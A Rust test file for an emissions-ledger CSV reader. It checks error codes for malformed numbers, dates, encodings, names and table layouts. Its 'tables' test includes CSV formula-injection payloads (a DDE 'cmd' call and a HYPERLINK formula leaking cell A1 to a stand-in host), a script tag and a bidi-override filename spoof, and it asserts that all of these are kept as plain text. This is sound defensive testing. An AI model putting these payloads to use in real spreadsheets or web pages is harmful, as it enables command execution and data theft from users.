//! Ledger files that are broken on purpose: each gives its code at its row and column, or exactly its value.
//!
//! The inputs are written out here. Every case also runs with the input cut into single bytes.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    reason = "tests assert by panicking"
)]

mod reading;

use emitrace::Severity;
use emitrace::activity::{Encoding, ReadOptions};
use emitrace::period::{DateOrder, DateSystem, Period};

use reading::{HEAD, locale, read};

const NAME: &str = "Công ty TNHH Thép Đại Việt – Nhà máy số 1";

/// What a case must give.
#[derive(Clone, Debug)]
enum Want {
    /// No good row at this row; an error with code, row and column.
    Refused(&'static str, u64, &'static str),
    /// A warning or remark with code, row and column; the row counts.
    Warned(&'static str, u64, &'static str),
    /// No error and no warning; the first row's quantity, period and supplier.
    Good(&'static str, &'static str, &'static str),
}

fn check(name: &str, bytes: &[u8], options: &ReadOptions, want: &Want) {
    let got = read(bytes, options);
    let find = |code: &str, row: u64, column: &str| {
        got.findings
            .iter()
            .find(|f| f.code.as_str() == code && f.position.row == row && *f.position.column == *column)
    };
    match want {
        Want::Refused(code, row, column) => {
            let finding = find(code, *row, column).unwrap_or_else(|| panic!("{name}: no {code}: {got:?}"));
            assert_eq!(finding.severity, Severity::Error, "{name}");
            assert!(!finding.help.is_empty() && !finding.message.is_empty(), "{name}");
            assert!(!got.good.iter().any(|good| good.row == *row), "{name}: {got:?}");
        }
        Want::Warned(code, row, column) => {
            let finding = find(code, *row, column).unwrap_or_else(|| panic!("{name}: no {code}: {got:?}"));
            assert_ne!(finding.severity, Severity::Error, "{name}");
            assert!(got.good.iter().any(|good| good.row == *row), "{name}: {got:?}");
            assert_eq!(got.skipped, 0, "{name}");
        }
        Want::Good(quantity, period, supplier) => {
            assert_eq!(got.findings, [], "{name}");
            let first = &got.good[0];
            assert_eq!(
                (&*first.quantity, &*first.period, &*first.supplier),
                (*quantity, *period, *supplier),
                "{name}"
            );
        }
    }
}

fn quantity(text: &str) -> Vec<u8> {
    format!("{HEAD}R1,HCM-01,grid_electricity,{text},kWh,2026-03-01\n").into_bytes()
}

fn date(text: &str) -> Vec<u8> {
    format!("{HEAD}R1,HCM-01,grid_electricity,5,kWh,{text}\n").into_bytes()
}

fn supplier(text: &[u8]) -> Vec<u8> {
    [b"record_id,supplier,quantity,unit,date\nR1,", text, b",5,t,2026-03-01\n"].concat()
}

#[test]
fn numbers() {
    use Want::{Good, Refused};
    let none = ReadOptions::new();
    let day = "2026-03-01";
    let bad = |code| Refused(code, 2, "quantity");
    let semicolons =
        "record_id;site;fuel;quantity;unit;date\nR1;HCM-01;grid_electricity;1.234,56;kWh;01/03/2026\n";
    let cases: Vec<(&str, Vec<u8>, ReadOptions, Want)> = vec![
        ("comma style undeclared", quantity("\"1.234,56\""), none.clone(), bad("AMBIGUOUS_NUMBER")),
        ("comma style declared", quantity("\"1.234,56\""), locale("vi-VN"), Good("1234.56", day, "")),
        ("semicolons undeclared", semicolons.into(), none.clone(), bad("AMBIGUOUS_NUMBER")),
        (
            "semicolons undeclared, date",
            semicolons.into(),
            none.clone(),
            Refused("AMBIGUOUS_DATE", 2, "date"),
        ),
        ("semicolons declared", semicolons.into(), locale("vi-VN"), Good("1234.56", day, "")),
        (
            "delimiter declared",
            semicolons.into(),
            locale("vi-VN").with_delimiter(b';'),
            Good("1234.56", day, ""),
        ),
        ("1,234 undeclared", quantity("\"1,234\""), none.clone(), bad("AMBIGUOUS_NUMBER")),
        ("1,234 en", quantity("\"1,234\""), locale("en"), Good("1234", day, "")),
        ("1,234 vi-VN", quantity("\"1,234\""), locale("vi-VN"), Good("1.234", day, "")),
        ("1.234 undeclared", quantity("1.234"), none.clone(), bad("AMBIGUOUS_NUMBER")),
        ("lakh undeclared", quantity("\"12,34,567.8\""), none.clone(), bad("BAD_GROUPING")),
        ("lakh declared", quantity("\"12,34,567.8\""), locale("en-IN"), Good("1234567.8", day, "")),
        ("no-break spaces", quantity("1\u{a0}234\u{202f}567.5"), none.clone(), bad("BAD_CHAR_IN_NUMBER")),
        (
            "no-break spaces fr-FR",
            quantity("\"1\u{a0}234\u{202f}567,5\""),
            locale("fr-FR"),
            Good("1234567.5", day, ""),
        ),
        ("underscore", quantity("1_000"), none.clone(), bad("BAD_CHAR_IN_NUMBER")),
        ("full-width digits", quantity("１２３"), none.clone(), bad("BAD_CHAR_IN_NUMBER")),
        ("unicode minus", quantity("\u{2212}5"), none.clone(), bad("BAD_CHAR_IN_NUMBER")),
        ("accounting negative", quantity("(1234.5)"), none.clone(), bad("BAD_CHAR_IN_NUMBER")),
        ("percent", quantity("12%"), none.clone(), bad("BAD_CHAR_IN_NUMBER")),
        ("infinity", quantity("-Infinity"), none.clone(), bad("NOT_FINITE")),
        ("exponent", quantity("1.5E+3"), none.clone(), Good("1500", day, "")),
        ("two points", quantity("1.2.3"), none.clone(), bad("BAD_NUMBER")),
        ("empty", quantity(""), none.clone(), bad("MISSING_VALUE")),
        ("negative zero", quantity("-0.00"), none.clone(), Good("0", day, "")),
        ("hash marks", quantity("########"), none.clone(), bad("BAD_NUMBER")),
        ("huge exponent", quantity("1e999999"), none.clone(), bad("NUMBER_OUT_OF_RANGE")),
        ("tiny exponent", quantity("1e-999999"), none.clone(), bad("NUMBER_OUT_OF_RANGE")),
        ("2^96", quantity("79228162514264337593543950336"), none.clone(), bad("NUMBER_OUT_OF_RANGE")),
        ("2^96 - 1", quantity("79228162514264337593543950335"), none.clone(), bad("NUMBER_OUT_OF_RANGE")),
        (
            "35 digits",
            quantity("1.2345678901234567890123456789012345"),
            none.clone(),
            bad("PRECISION_EXCEEDED"),
        ),
        // The reader takes it; that its emission rounds to nothing is seen later.
        (
            "1e-28",
            quantity("0.0000000000000000000000000001"),
            none.clone(),
            Good("0.0000000000000000000000000001", day, ""),
        ),
        ("a million digits", quantity(&"1".repeat(1_000_000)), none.clone(), bad("FIELD_TOO_LONG")),
        ("65 digits", quantity(&"1".repeat(65)), none.clone(), bad("FIELD_TOO_LONG")),
        ("negative", quantity("-5"), none.clone(), bad("NEGATIVE_QUANTITY")),
    ];
    assert_eq!(cases.len(), 34);
    for (name, bytes, options, want) in &cases {
        check(name, bytes, options, want);
    }
    let unit_in_cell = format!("{HEAD}R1,HCM-01,grid_electricity,12.5 MWh,,2026-03-01\n");
    check("unit in cell", unit_in_cell.as_bytes(), &none, &bad("UNIT_IN_NUMBER"));
    check("unit in cell, no unit", unit_in_cell.as_bytes(), &none, &Refused("MISSING_VALUE", 2, "unit"));

    let mixed = format!("{HEAD}R1,H,e,\"1.234,56\",kWh,2026-03-01\nR2,H,e,\"1,234.56\",kWh,2026-03-01\n");
    check("mixed styles", mixed.as_bytes(), &locale("vi-VN"), &Refused("MIXED_NUMBER_FORMAT", 3, "quantity"));
    assert_eq!(read(mixed.as_bytes(), &locale("vi-VN")).good[0].quantity, "1234.56");
}

#[test]
fn dates() {
    use Want::{Good, Refused};
    let none = ReadOptions::new();
    let order = |order| ReadOptions::new().with_date_order(order);
    let bad = |code| Refused(code, 2, "date");
    let serial = |system| ReadOptions::new().with_date_system(system);
    for (name, text, options, want) in [
        ("03/04 undeclared", "03/04/2026", none.clone(), bad("AMBIGUOUS_DATE")),
        ("03/04 dmy", "03/04/2026", order(DateOrder::Dmy), Good("5", "2026-04-03", "")),
        ("03/04 mdy", "03/04/2026", order(DateOrder::Mdy), Good("5", "2026-03-04", "")),
        ("13/04 undeclared", "13/04/2026", none.clone(), bad("AMBIGUOUS_DATE")),
        ("13/04 dmy", "13/04/2026", order(DateOrder::Dmy), Good("5", "2026-04-13", "")),
        ("13/04 mdy", "13/04/2026", order(DateOrder::Mdy), bad("BAD_DATE")),
        ("29 February", "2026-02-29", none.clone(), bad("BAD_DATE")),
        ("serial undeclared", "46082", none.clone(), bad("SERIAL_DATE")),
        ("serial 1900", "46082", serial(DateSystem::Excel1900), Good("5", "2026-03-01", "")),
        ("serial 1904", "46082", serial(DateSystem::Excel1904), Good("5", "2030-03-02", "")),
        ("two-digit year", "01/03/26", none.clone(), bad("AMBIGUOUS_DATE")),
        ("two-digit year, declared", "01/03/26", order(DateOrder::Dmy), bad("AMBIGUOUS_DATE")),
        ("year 10000", "10000-01-01", none.clone(), bad("DATE_OUT_OF_RANGE")),
        ("Buddhist year", "01/03/2569", none.clone(), bad("DATE_OUT_OF_RANGE")),
        ("Buddhist year, declared", "01/03/2569", order(DateOrder::Dmy), bad("DATE_OUT_OF_RANGE")),
        ("empty", "", none.clone(), bad("MISSING_VALUE")),
        ("month in words", "Tháng 03 năm 2026", none.clone(), Good("5", "2026-03-01/2026-03-31", "")),
    ] {
        check(name, &date(text), &options, &want);
    }
    let year = ReadOptions::new().with_period(Period::year(2025).unwrap());
    check("outside the period", &date("2026-01-01"), &year, &bad("DATE_OUTSIDE_PERIOD"));
    check("last day of the period", &date("2025-12-31"), &year, &Good("5", "2025-12-31", ""));
    let spans = "quantity,unit,from date,to date\n1,t,2025-12-01,2025-12-31\n1,t,2025-12-31,2026-01-01\n1,t,2025-02-01,2025-01-01\n1,t,2025-02,\n1,t,2025-02,2025-03\n";
    let got = read(spans.as_bytes(), &year);
    let codes: Vec<_> =
        got.findings.iter().map(|f| (f.code.as_str(), f.position.row, &*f.position.column)).collect();
    assert_eq!(
        codes,
        [
            ("DATE_OUTSIDE_PERIOD", 3, "period_start"),
            ("PERIOD_REVERSED", 4, "period_end"),
            ("MISSING_VALUE", 5, "period_end"),
        ]
    );
    assert_eq!(got.good[1].period, "2025-02-01/2025-03-31");
}

/// UTF-16 without a mark.
fn utf16(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(bytes).collect()
}

#[test]
fn encodings() {
    use Want::{Good, Refused, Warned};
    let none = ReadOptions::new();
    let is = |encoding| ReadOptions::new().with_encoding(encoding);
    let plain = supplier(NAME.as_bytes());
    let text = String::from_utf8(plain.clone()).unwrap();
    let good = Good("5", "2026-03-01", NAME);
    let little = utf16(&text, u16::to_le_bytes);
    let big = utf16(&text, u16::to_be_bytes);
    // `Công ty TNHH Thép Đại Việt - Nhà máy số 1` in windows-1258: tones follow their letters.
    let page = b"C\xf4ng ty TNHH Th\xe9p \xd0a\xf2i Vi\xea\xf2t - Nh\xe0 m\xe1y s\xf4\xec 1";
    let composed = Good("5", "2026-03-01", "Công ty TNHH Thép Đại Việt - Nhà máy số 1");
    let invalid = [plain.clone(), b"R2,\xff\xfe\x80,5,t,2026-03-01\n".to_vec()].concat();
    let cases: Vec<(&str, Vec<u8>, ReadOptions, Want)> = vec![
        ("utf-8", plain.clone(), none.clone(), good.clone()),
        ("utf-8 with mark", [b"\xef\xbb\xbf", &*plain].concat(), none.clone(), good.clone()),
        ("utf-16le with mark", [b"\xff\xfe", &*little].concat(), none.clone(), good.clone()),
        ("utf-16be with mark", [b"\xfe\xff", &*big].concat(), none.clone(), good.clone()),
        ("utf-16le without mark", little.clone(), none.clone(), Refused("UNDETECTED_ENCODING", 1, "")),
        ("utf-16be without mark", big.clone(), none.clone(), Refused("UNDETECTED_ENCODING", 1, "")),
        ("utf-16le declared", little.clone(), is(Encoding::Utf16Le), good.clone()),
        ("utf-16be declared", big, is(Encoding::Utf16Be), good.clone()),
        (
            "the mark goes before the declaration",
            [b"\xff\xfe", &*little].concat(),
            is(Encoding::Utf8),
            good.clone(),
        ),
        (
            "half a unit at the end",
            [&*little, b"R"].concat(),
            is(Encoding::Utf16Le),
            Refused("ROW_LENGTH", 3, ""),
        ),
        ("windows-1258 undeclared", supplier(page), none.clone(), Refused("INVALID_UTF8", 2, "supplier")),
        ("windows-1258 declared", supplier(page), is(Encoding::Windows1258), composed),
        (
            "a gap of windows-1258",
            supplier(b"\x90"),
            is(Encoding::Windows1258),
            Refused("INVALID_UTF8", 2, "supplier"),
        ),
        ("invalid in row 3", invalid.clone(), none.clone(), Refused("INVALID_UTF8", 3, "supplier")),
        ("overlong slash", supplier(b"\xc0\xaf"), none.clone(), Refused("INVALID_UTF8", 2, "supplier")),
        (
            "surrogate in utf-8",
            supplier(b"\xed\xa0\x80"),
            none.clone(),
            Refused("INVALID_UTF8", 2, "supplier"),
        ),
        (
            "invalid in an unknown column",
            b"quantity,unit,date,x\n1,t,2026-03-01,\xff\n".to_vec(),
            none.clone(),
            Refused("INVALID_UTF8", 2, ""),
        ),
        (
            "invalid header",
            b"quantity,unit,date,\xff\n1,t,2026-03-01,\n".to_vec(),
            none.clone(),
            Refused("INVALID_UTF8", 1, ""),
        ),
        (
            "direction override",
            supplier("\u{202e}gnp.exe".as_bytes()),
            none.clone(),
            Refused("BIDI_CONTROL", 2, "supplier"),
        ),
        ("nul", supplier(b"a\0b"), none.clone(), Refused("INVISIBLE_CHAR", 2, "supplier")),
        ("escape", supplier(b"a\x1bb"), none.clone(), Refused("INVISIBLE_CHAR", 2, "supplier")),
        (
            "zero width",
            supplier("a\u{200b}b".as_bytes()),
            none.clone(),
            Warned("INVISIBLE_CHAR", 2, "supplier"),
        ),
        ("old Mac line ends", text.replace('\n', "\r").into_bytes(), none.clone(), good),
    ];
    assert_eq!(cases.len(), 23);
    for (name, bytes, options, want) in &cases {
        check(name, bytes, options, want);
    }
    let got = read(&invalid, &none);
    assert_eq!((got.good.len(), got.rows), (1, 2), "only the broken row is lost");
    let offset = format!("offset {} ", plain.len() + 3);
    assert!(got.findings[0].message.contains(&offset), "{:?}", got.findings);
    let lone = [
        b"\xff\xfe".to_vec(),
        utf16("quantity,unit,date\n1,", u16::to_le_bytes),
        vec![0x00, 0xd8],
        utf16(",2026-03-01\n", u16::to_le_bytes),
    ]
    .concat();
    check("lone surrogate", &lone, &none, &Refused("INVALID_UTF8", 2, "unit"));
}

#[test]
fn names() {
    let none = ReadOptions::new();
    let two = |a: &str, b: &str| {
        format!("record_id,supplier,quantity,unit,date\nR1,{a},5,t,2026-03-01\nR2,{b},7,t,2026-03-01\n")
            .into_bytes()
    };
    let decomposed = "Co\u{302}ng ty TNHH The\u{301}p \u{110}a\u{323}i Vie\u{323}\u{302}t – Nha\u{300} ma\u{301}y so\u{302}\u{301} 1";
    let one = read(&two(NAME, decomposed), &none);
    assert_eq!((one.good[0].supplier == one.good[1].supplier, one.findings.len()), (true, 0));
    let warned = Want::Warned("POSSIBLE_DUPLICATE_NAME", 3, "supplier");
    check("tone placement", &two("Hòa Phát", "Hoà Phát"), &none, &warned);
    check("letter case", &two("HÒA PHÁT", "Hòa Phát"), &none, &warned);
    assert_eq!(read(&two("Hòa Phát", "Hóa Phát"), &none).findings, []);
}

#[test]
fn tables() {
    use Want::{Good, Refused, Warned};
    let none = ReadOptions::new();
    let day = "2026-03-01";
    let rows =
        |from: u64| (from..50).map(|i| format!("R{i},HCM-01,e,5,kWh,2026-03-01\n")).collect::<String>();
    let unclosed = format!("{HEAD}R1,\"HCM,diesel,5,l,2026-03-01\n{}", rows(2));
    let huge = format!("{HEAD}R1,{},e,5,kWh,2026-03-01\nR2,H,e,5,kWh,2026-03-01\n", "A".repeat(2_000_000));
    let spaces = format!("{HEAD}R1,H,e,5,{}kWh!,2026-03-01\n", " ".repeat(50_000));
    let formulas = "record_id,supplier,quantity,unit,date\nR1,\"=cmd|' /C calc'!A0\",5,t,2026-03-01\nR2,\"\t=1\",5,t,2026-03-01\nR3,\"\r=1\",5,t,2026-03-01\nR4,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"ok\"\")\",5,t,2026-03-01\nR5,\"＝1\",5,t,2026-03-01\n";
    let markup = "record_id,supplier,quantity,unit,date\nR1,\"<script>alert(1)</script>\",5,t,2026-03-01\nR2,</script><!--,5,t,2026-03-01\n";
    let cases: Vec<(&str, String, Want)> = vec![
        ("empty", String::new(), Refused("EMPTY_FILE", 1, "")),
        ("blank", "\n \r\n\t\n".into(), Refused("EMPTY_FILE", 1, "")),
        ("only a sep line", "sep=;\n".into(), Refused("EMPTY_FILE", 1, "")),
        (
            "no unit",
            "record_id,site,fuel,quantity,date\nR1,HCM,diesel,5,2026-03-01\n".into(),
            Refused("MISSING_COLUMN", 1, "unit"),
        ),
        ("no date", "quantity,unit\n5,t\n".into(), Refused("MISSING_COLUMN", 1, "date")),
        (
            "no end",
            "quantity,unit,period_start\n5,t,2026-03-01\n".into(),
            Refused("MISSING_COLUMN", 1, "period_end"),
        ),
        (
            "two quantities",
            "record_id,site,fuel,quantity,quantity,unit,date\nR1,HCM,diesel,5,6,l,2026-03-01\n".into(),
            Refused("DUPLICATE_COLUMN", 1, "quantity"),
        ),
        (
            "two names of a field",
            "id,Mã,quantity,unit,date\nR1,R1,6,l,2026-03-01\n".into(),
            Refused("DUPLICATE_COLUMN", 1, "id"),
        ),
        ("unquoted comma", format!("{HEAD}R1,HCM,diesel,1,234,l,2026-03-01\n"), Refused("ROW_LENGTH", 2, "")),
        ("short row", format!("{HEAD}R1,HCM,diesel,1,l\n"), Refused("ROW_LENGTH", 2, "")),
        ("open quote", unclosed.clone(), Refused("UNCLOSED_QUOTE", 2, "site")),
        (
            "open quote in the header",
            "\"quantity,unit,date\n5,t,2026-03-01\n".into(),
            Refused("UNCLOSED_QUOTE", 1, ""),
        ),
        (
            "text behind a quote",
            format!("{HEAD}R1,\"H\"CM,e,5,l,2026-03-01\n"),
            Refused("UNCLOSED_QUOTE", 2, "site"),
        ),
        (
            "sep line",
            "sep=;\nrecord_id;site;fuel;quantity;unit;date\nR1;HCM;diesel;5;l;2026-03-01\n".into(),
            Good("5", day, ""),
        ),
        (
            "quoted sep line",
            "\"sep=;\"\r\nquantity;unit;date\r\n5;l;2026-03-01\r\n".into(),
            Good("5", day, ""),
        ),
        ("tabs", "quantity\tunit\tdate\n5\tl\t2026-03-01".into(), Good("5", day, "")),
        (
            "commas in semicolon headers",
            "Số lượng (a,b,c,d);ĐVT;Ngày\n5;l;2026-03-01".into(),
            Good("5", day, ""),
        ),
        ("empty cells at the end", "quantity,unit,date\n5,l,2026-03-01,, ,\n".into(), Good("5", day, "")),
        ("unnamed columns at the end", "quantity,unit,date,,\n5,l,2026-03-01\n".into(), Good("5", day, "")),
        ("huge field", huge.clone(), Refused("FIELD_TOO_LONG", 2, "site")),
        ("many spaces", spaces, Good("5", day, "")),
        (
            "repeated id",
            format!("{HEAD}R1,H,e,5,kWh,2026-03-01\nR1,H,e,5,kWh,2026-03-01\n"),
            Refused("DUPLICATE_RECORD", 3, "id"),
        ),
        ("spoilt id", format!("{HEAD}8.93E+12,H,e,5,l,2026-03-01\n"), Refused("ID_SCIENTIFIC", 2, "id")),
        (
            "gtin without its zero",
            "gtin,quantity,unit,date\n893460200107,5,t,2026-03-01\n".into(),
            Warned("ID_LENGTH", 2, "gtin"),
        ),
        ("formulas are text", formulas.into(), Good("5", day, "=cmd|' /C calc'!A0")),
        ("markup is text", markup.into(), Good("5", day, "<script>alert(1)</script>")),
        (
            "calorific value without basis",
            "quantity,unit,date,cv,cv_unit,cv_basis\n1000,Nm3,2026-03-01,38.5,MJ/Nm3,\n".into(),
            Refused("MISSING_CV_BASIS", 2, "calorific_basis"),
        ),
        (
            "calorific value",
            "quantity,unit,date,cv,cv_unit,cv_basis\n1000,Nm3,2026-03-01,38.5,MJ/Nm3,net\n".into(),
            Good("1000", day, ""),
        ),
        (
            "correction",
            "quantity,unit,date,quality\n-5,t,2026-03-01,Correction\n".into(),
            Good("-5", day, ""),
        ),
        (
            "correction in Vietnamese",
            "quantity,unit,date,quality\n-5,t,2026-03-01,Điều chỉnh\n".into(),
            Good("-5", day, ""),
        ),
    ];
    assert_eq!(cases.len(), 30);
    for (name, text, want) in &cases {
        check(name, text.as_bytes(), &none, want);
    }
    let got = read(unclosed.as_bytes(), &none);
    assert_eq!((got.good.len(), got.rows, got.skipped), (48, 49, 1), "one row is lost, not the rest");
    let got = read(huge.as_bytes(), &none);
    assert_eq!((got.good.len(), got.rows), (1, 2));
    let got = read(formulas.as_bytes(), &none);
    assert_eq!(got.good[3].supplier, "=HYPERLINK(\"http://x/?\"&A1,\"ok\")");
    assert_eq!(got.rows, 5);
}
